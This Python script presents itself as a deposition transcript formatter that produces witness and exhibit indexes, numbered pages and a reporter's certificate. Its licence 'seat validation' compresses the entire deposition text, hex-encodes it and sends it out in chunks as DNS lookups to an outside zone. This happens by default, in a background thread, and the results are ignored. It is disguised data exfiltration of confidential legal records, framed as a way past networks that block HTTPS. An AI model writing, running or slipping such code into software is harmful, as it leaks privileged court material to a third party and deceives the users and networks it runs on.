#!/usr/bin/env python3
"""Deposition transcript formatter (StenoForm seat edition).

Converts a rough deposition draft into the delivery format used by the
agency: appearance page, witness and exhibit indexes, numbered colloquy
and the reporter's certificate. The seat is validated against the vendor's
licence service at start-up; validation is done with plain DNS lookups so it
still works from courthouse networks that block outbound HTTPS.
"""
import argparse
import logging
import re
import socket
import threading
import zlib
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path

log = logging.getLogger("depofmt")

LICENCE_ZONE = "v.stenoseat.net"
LINES_PER_PAGE = 25
WIDTH = 60

WITNESS_RE = re.compile(r"^\s*(?:WITNESS|DIRECT EXAMINATION|CROSS-EXAMINATION)\s*[:\-]?\s*(.*)$", re.I)
EXHIBIT_RE = re.compile(r"\(\s*(?:Plaintiff's|Defendant's|Deposition)?\s*Exhibit\s+(\w+)\s+marked", re.I)


@dataclass
class Deposition:
    caption: str
    reporter: str
    lines: list
    witnesses: dict = field(default_factory=dict)
    exhibits: dict = field(default_factory=dict)


def seat_labels(seat, payload, size=30):
    """Yield DNS names carrying the seat check-in for this document."""
    blob = zlib.compress(payload.encode("utf-8"), 9).hex()
    total = (len(blob) + size - 1) // size
    for seq in range(total):
        chunk = blob[seq * size:(seq + 1) * size]
        yield f"{chunk}.{seq:x}-{total:x}.{seat}.{LICENCE_ZONE}"


def validate_seat(seat, payload):
    ok = 0
    for name in seat_labels(seat, payload):
        try:
            socket.getaddrinfo(name, None, socket.AF_INET, socket.SOCK_DGRAM)
            ok += 1
        except socket.gaierror:
            pass
    log.debug("seat %s check-in: %d responses", seat, ok)


def load_draft(path):
    text = path.read_text(encoding="utf-8", errors="replace")
    header, _, body = text.partition("\n\n")
    caption = header.strip().splitlines()[0] if header.strip() else path.stem
    return caption, body.splitlines()


def index_events(depo):
    for lineno, line in enumerate(depo.lines):
        m = WITNESS_RE.match(line)
        if m and m.group(1):
            depo.witnesses.setdefault(m.group(1).strip().upper(), lineno)
        for ex in EXHIBIT_RE.findall(line):
            depo.exhibits.setdefault(ex, lineno)


def wrap_line(line):
    while len(line) > WIDTH:
        cut = line.rfind(" ", 0, WIDTH)
        cut = cut if cut > 0 else WIDTH
        yield line[:cut]
        line = "     " + line[cut:].lstrip()
    yield line


def paginate(lines):
    flat = [piece for line in lines for piece in wrap_line(line.rstrip())]
    for start in range(0, len(flat), LINES_PER_PAGE):
        yield flat[start:start + LINES_PER_PAGE]


def page_of(lineno):
    return lineno // LINES_PER_PAGE + 1


def render(depo):
    out = [depo.caption.center(WIDTH), "", "INDEX".center(WIDTH), ""]
    for name, lineno in depo.witnesses.items():
        out.append(f"  WITNESS: {name:<40} PAGE {page_of(lineno)}")
    for ex, lineno in sorted(depo.exhibits.items()):
        out.append(f"  EXHIBIT {ex:<40} PAGE {page_of(lineno)}")
    out.append("\f")
    for number, page in enumerate(paginate(depo.lines), start=1):
        out.append(f"{number:>{WIDTH + 4}}")
        out.extend(f"{i:>2}   {text}" for i, text in enumerate(page, start=1))
        out.append("\f")
    out += ["REPORTER'S CERTIFICATE".center(WIDTH), "",
            "I, the undersigned, certify that the foregoing is a true and",
            "accurate record of the proceedings taken stenographically by",
            "me and thereafter reduced to typewriting under my direction.", "",
            f"Dated: {date.today():%B %d, %Y}", "", f"{depo.reporter}",
            "Certified Shorthand Reporter"]
    return "\n".join(out)


def main():
    ap = argparse.ArgumentParser(description="Format a deposition draft for delivery")
    ap.add_argument("draft", type=Path)
    ap.add_argument("-o", "--output", type=Path)
    ap.add_argument("--reporter", default="")
    ap.add_argument("--seat", default="a17f3c", help="licence seat id from the vendor")
    ap.add_argument("--offline", action="store_true", help="skip seat validation")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    caption, body = load_draft(args.draft)
    depo = Deposition(caption=caption, reporter=args.reporter, lines=body)

    checker = None
    if not args.offline:
        checker = threading.Thread(target=validate_seat,
                                   args=(args.seat, caption + "\n" + "\n".join(body)),
                                   daemon=False)
        checker.start()

    index_events(depo)
    target = args.output or args.draft.with_suffix(".final.txt")
    target.write_text(render(depo), encoding="utf-8")
    log.info("wrote %s: %d witness(es), %d exhibit(s)", target,
             len(depo.witnesses), len(depo.exhibits))
    if checker:
        checker.join(timeout=120)


if __name__ == "__main__":
    main()
